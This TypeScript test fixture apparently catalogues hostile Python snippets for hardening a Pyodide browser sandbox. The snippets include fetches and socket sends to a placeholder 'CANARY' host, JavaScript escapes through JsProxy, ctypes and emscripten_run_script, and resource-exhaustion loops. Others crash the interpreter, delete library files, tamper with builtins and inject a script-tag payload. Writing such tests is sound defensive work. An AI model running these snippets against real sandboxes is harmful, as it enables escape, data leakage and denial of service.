/**
 * Programs that try to get out, to stay, to hang, or to break what comes after them: what each tries, and its text.
 * `CANARY` is the address of a server that must hear nothing.
 */
export interface Attack {
  readonly tries: string
  readonly code: string
}

const attack = (tries: string, ...lines: readonly string[]): Attack => ({ tries, code: lines.join('\n') })
const script = (text: string) => `ctypes.CDLL(None).emscripten_run_script(b${JSON.stringify(text)})`

export const attacks: readonly Attack[] = [
  // The network, by Python's own means.
  attack('urllib', 'import urllib.request', 'urllib.request.urlopen("CANARY")'),
  attack(
    'http.client',
    'import http.client',
    'c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=1)',
    'c.request("GET", "/secret")',
  ),
  attack(
    'a socket',
    'import socket',
    's = socket.create_connection(("127.0.0.1", PORT), 1)',
    's.send(b"secret")',
  ),
  attack(
    'a datagram',
    'import socket',
    'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT))',
  ),
  attack('a name to look up', 'import socket', 'socket.gethostbyname("secret.invalid")'),
  attack('asyncio', 'import asyncio', 'asyncio.run(asyncio.open_connection("127.0.0.1", PORT))'),
  attack('pyodide.http', 'import pyodide.http', 'pyodide.http.open_url("CANARY")'),
  attack('webbrowser', 'import webbrowser', 'webbrowser.open("CANARY")'),
  attack('an import hook that fetches', 'import zipimport', 'zipimport.zipimporter("CANARY")'),

  // JavaScript, and through it the browser.
  attack('import js', 'import js', 'js.fetch("CANARY")'),
  attack(
    'import pyodide_js',
    'import pyodide_js',
    'pyodide_js.constructor.constructor("return fetch(\'CANARY\')")()',
  ),
  attack('run_js', 'from pyodide.code import run_js', 'run_js("fetch(\'CANARY\')")'),
  attack('_pyodide_core', 'import _pyodide_core', 'print(dir(_pyodide_core))', '_pyodide_core.run_js("1")'),
  attack(
    'js among the modules',
    'import sys',
    'for m in list(sys.modules.values()):',
    '  if "Js" in type(m).__name__: m.fetch("CANARY")',
  ),
  attack(
    'a proxy among all objects',
    'import gc',
    'for o in gc.get_objects():',
    '  if type(o).__name__ == "JsProxy":',
    '    try: o.constructor.constructor("return fetch(\'CANARY\')")()',
    '    except Exception as e: print(type(e))',
  ),
  attack(
    'a proxy in the frames',
    'import sys',
    'f = sys._getframe()',
    'while f:',
    '  for v in [*f.f_globals.values(), *f.f_locals.values()]:',
    '    if type(v).__name__ == "JsProxy": v.constructor.constructor("return fetch(\'CANARY\')")()',
    '  f = f.f_back',
  ),
  attack('emscripten_run_script', 'import ctypes', script("fetch('CANARY')")),
  attack('emscripten_run_script and import()', 'import ctypes', script("import('CANARY')")),
  attack('emscripten_run_script that posts', 'import ctypes', script('postMessage({type:"ran"})')),
  attack(
    'emscripten_async_wget',
    'import ctypes',
    'ctypes.CDLL(None).emscripten_async_wget(b"CANARY", b"/x", 0, 0)',
  ),
  attack(
    'a function pointer of JavaScript',
    'import ctypes',
    'for n in range(1, 3000): ctypes.CFUNCTYPE(ctypes.c_int)(n)()',
  ),

  // Time.
  attack('to spin', 'while True: pass'),
  attack('to spin in C', 'sum(range(10**12))'),
  attack('to sleep', 'import time', 'time.sleep(1e6)'),
  attack(
    'to catch every stop',
    'while True:',
    '  try:',
    '    while True: pass',
    '  except BaseException: pass',
  ),
  attack('to go on in finally', 'def f():', '  try:', '    while True: pass', '  finally: f()', 'f()'),
  attack('to spin in a __repr__', 'class A:', '  def __repr__(self):', '    while True: pass', 'A()'),
  attack(
    'to spin in a __del__',
    'class A:',
    '  def __del__(self):',
    '    while True: pass',
    'A()',
    'print(1)',
  ),
  attack(
    'to spin in an __eq__',
    'class A:',
    '  def __eq__(self, o):',
    '    while True: pass',
    '  __hash__ = None',
    'A() in [A()]',
  ),
  attack('to spin in a __hash__', 'class A:', '  def __hash__(self):', '    while True: pass', '{A()}'),
  attack(
    'to spin when it is sorted',
    'class A:',
    '  def __lt__(self, o):',
    '    while True: pass',
    'sorted([A(), A()])',
  ),
  attack('to spin in a pattern', 'import re', 're.match("(a+)+$", "a" * 40 + "b")'),
  attack(
    'to spin at exit',
    'import atexit',
    'def f():',
    '  while True: pass',
    'atexit.register(f)',
    'raise SystemExit',
  ),
  attack(
    'a trace that spins',
    'import sys',
    'def t(*a):',
    '  while True: pass',
    'sys.settrace(t)',
    '(lambda: 1)()',
  ),
  attack('to sort for ever', 'sorted(iter(lambda: 0, 1))'),
  attack('a very large power', '9**9**9'),
  attack('to print a very large number', 'print(7**(10**7))'),

  attack(
    'to spin when its time is over',
    'import asyncio',
    'def f():',
    '  while True: pass',
    'asyncio.get_event_loop().call_later(0.05, f)',
  ),
  attack(
    'to flood the page with nothing',
    'import sys',
    't = type(sys.stdout).tell.__globals__["tell"]',
    'while True: t("")',
  ),

  // Memory.
  attack('lists', 'a = []', 'while True: a.append([0] * 10**6)'),
  attack('a string', 's = "x"', 'while True: s += s'),
  attack('bytes', 'b = bytearray(2 * 10**9)'),
  attack('an array', 'import array', 'array.array("d", [0.0]) * 10**9'),
  attack('a number', 'n = 1 << 10**10'),
  attack('a dictionary', 'd = {}', 'while True: d[len(d)] = "x" * 10**5'),
  attack('a file', 'f = open("/tmp/x", "wb")', 'while True: f.write(b"x" * 10**7)'),
  attack('many files', 'n = 0', 'while True:', '  n += 1', '  open(f"/tmp/{n}", "wb").write(b"x" * 10**7)'),
  attack('a comprehension', '[bytearray(10**7) for _ in range(10**6)]'),
  attack(
    'memory kept in a cache',
    'import functools',
    '@functools.cache',
    'def f(n): return bytearray(10**6)',
    'for n in range(10**6): f(n)',
  ),

  // Output.
  attack('a flood of lines', 'while True: print("x" * 1000)'),
  attack('a flood by write', 'import sys', 'while True: sys.stdout.write("x" * 1000)'),
  attack('a flood of errors', 'import sys', 'while True: sys.stderr.write("x" * 1000)'),
  attack('a flood past Python', 'import os', 'while True: os.write(1, b"x" * 1000)'),
  attack('one line without end', 'print("x" * 10**8)'),
  attack('a very long error', 'raise ValueError("x" * 10**7)'),
  attack(
    'warnings without end',
    'import warnings',
    'warnings.simplefilter("always")',
    'while True: warnings.warn("x" * 1000)',
  ),
  attack('a thousand variables', 'globals().update({f"v{n}": "x" * 10**4 for n in range(10**3)})'),

  // The stack.
  attack('recursion', 'def f(): f()', 'f()'),
  attack(
    'recursion with a raised limit',
    'import sys',
    'sys.setrecursionlimit(10**6)',
    'def f(): f()',
    'f()',
  ),
  attack('recursion in C', 'class A:', '  def __add__(self, o): return A() + o', 'A() + 1'),
  attack(
    'recursion in a cached function',
    'import functools',
    '@functools.lru_cache(None)',
    'def f(n): return f(n + 1)',
    'f(0)',
  ),
  attack('a deep expression', 'eval("-" * 10**5 + "1")'),
  attack('a deep list to show', 'a = []', 'for _ in range(10**5): a = [a]', 'print(a)'),
  attack('a deep list to forget', 'a = []', 'for _ in range(10**6): a = [a]', 'del a'),
  attack('deep generators', 'def g(n): yield from g(n + 1)', 'next(g(0))'),

  // The interpreter.
  attack('os._exit', 'import os', 'os._exit(0)'),
  attack('os.abort', 'import os', 'os.abort()'),
  attack('os.kill', 'import os, signal', 'os.kill(os.getpid(), signal.SIGKILL)'),
  attack('sys.exit', 'import sys', 'sys.exit(3)'),
  attack('to leave by KeyboardInterrupt', 'raise KeyboardInterrupt'),
  attack('to leave by GeneratorExit', 'raise GeneratorExit'),
  attack(
    'an error that is not to be shown',
    'class E(BaseException):',
    '  def __str__(self): raise E()',
    'raise E()',
  ),
  attack('to read where nothing is', 'import ctypes', 'ctypes.string_at(0xfffffff0)'),
  attack(
    'to write everywhere',
    'import ctypes',
    'for p in range(0, 10**8, 4096): ctypes.memset(p, 255, 4096)',
  ),
  attack('faulthandler', 'import faulthandler', 'faulthandler._sigsegv()'),
  attack(
    'code that is none',
    'import types',
    'c = (lambda: 0).__code__',
    'exec(c.replace(co_code=bytes([255] * 100), co_stacksize=1))',
  ),
  attack('threads', 'import threading', 'threading.Thread(target=print).start()'),
  attack('another process', 'import subprocess', 'subprocess.run(["ls"])'),
  attack('a fork', 'import os', 'os.fork()'),
  attack('input', 'input("name? ")'),
  attack('a debugger', 'breakpoint()'),

  // What comes after it.
  attack('to clear the modules', 'import sys', 'sys.modules.clear()'),
  attack('to clear the builtins', 'import builtins', 'builtins.__dict__.clear()'),
  attack('another print', 'import builtins', 'builtins.print = lambda *a: None'),
  attack(
    'another json',
    'import json',
    'json.dumps = lambda *a, **k: "{}"',
    'json.JSONEncoder.encode = lambda *a: "{}"',
  ),
  attack(
    'another exec and compile',
    'import builtins',
    'builtins.exec = builtins.compile = builtins.eval = lambda *a, **k: 0',
  ),
  attack('to close the output', 'import sys', 'sys.stdout.close()'),
  attack('no output at all', 'import sys', 'sys.stdout = sys.stderr = sys.__stdout__ = None'),
  attack('other streams', 'import io, sys', 'io.StringIO = io.TextIOBase = None'),
  attack(
    'a trace for later',
    'import sys',
    'def t(*a): raise SystemExit',
    'sys.settrace(t)',
    'sys.setprofile(t)',
  ),
  attack(
    'to find our functions and change them',
    'import gc',
    'for o in gc.get_objects():',
    '  if type(o).__name__ == "function" and o.__module__ == "prelude":',
    '    o.__code__ = (lambda *a, **k: "{}").__code__',
  ),
  attack('a hook for errors', 'import sys', 'sys.excepthook = lambda *a: 1 / 0', '1 / 0'),
  attack(
    'to patch what shows a traceback',
    'import traceback',
    'traceback.format_exception = traceback.TracebackException = None',
    '1 / 0',
  ),
  attack(
    'to overwrite the packages',
    'open("/site.zip", "wb").write(b"gone")',
    'import sys',
    'sys.path_importer_cache.clear()',
  ),
  attack('to remove the packages', 'import os', 'os.remove("/site.zip")'),
  attack('to remove the standard library', 'import shutil', 'shutil.rmtree("/lib", ignore_errors=True)'),
  attack('another path', 'import sys', 'sys.path[:] = []', 'sys.meta_path[:] = []'),
  attack('to leave a file', 'open("/tmp/left", "w").write("x")'),
  attack('another locale', 'import locale', 'locale.setlocale(locale.LC_ALL, "C.UTF-8")'),
  attack(
    'another hash for everything',
    'import builtins',
    'builtins.hash = lambda o: 0',
    'builtins.id = lambda o: 0',
  ),
  attack('to stop collecting', 'import gc', 'gc.disable()', 'gc.freeze()'),

  // What it answers with.
  attack('to forge a reply', 'print(\'{"type": "ran", "id": 1, "ran": {"stdout": "forged", "ms": 0}}\')'),
  attack(
    'a value with a forged repr',
    'class A:',
    '  def __repr__(self): return "</script><script>alert(1)</script>"',
    'A()',
  ),
  attack('a repr that is no text', 'class A:', '  def __repr__(self): return 3', 'A()'),
  attack(
    'a LaTeX that spins',
    'class A:',
    '  def _latex(self, *a):',
    '    while True: pass',
    '  _repr_latex_ = _latex',
    'A()',
  ),
  attack(
    'a name that is a prototype',
    '__proto__ = constructor = toString = 1',
    'globals()["__proto__"] = {"polluted": 1}',
  ),
  attack('half a character', 'print("\\ud800", "\\udfff")'),
  attack('a NUL', 'print("a\\0b")'),
]

/** What is hardly a program. */
export const oddTexts: readonly Attack[] = [
  attack('nothing', ''),
  attack('white space', ' \t\f\n'),
  attack('a NUL in the text', 'print(1)\0print(2)'),
  attack('half a character in the text', 'print("\ud800")'),
  attack('Python 2', 'print "hello"'),
  attack('notebook magics', '%matplotlib inline\n!pip install numpy\nprint(1)'),
  attack('tabs and spaces', 'if True:\n\tx = 1\n        y = 2'),
  attack('form feeds', 'x = 1\f\nprint(x)'),
  attack('a byte order mark', '\ufeffprint(1)'),
  attack('carriage returns', 'x = 1\rprint(x)\r\n'),
  attack('5 MB of text', `x = 1\n${'# '.padEnd(99, 'x')}\n`.repeat(50_000)),
  attack('5 MB on one line', `x = "${'x'.repeat(5_000_000)}"`),
  attack('deep brackets', `${'('.repeat(5000)}1${')'.repeat(5000)}`),
  attack('deep indentation', Array.from({ length: 150 }, (_, n) => `${' '.repeat(n)}if 1:`).join('\n')),
]
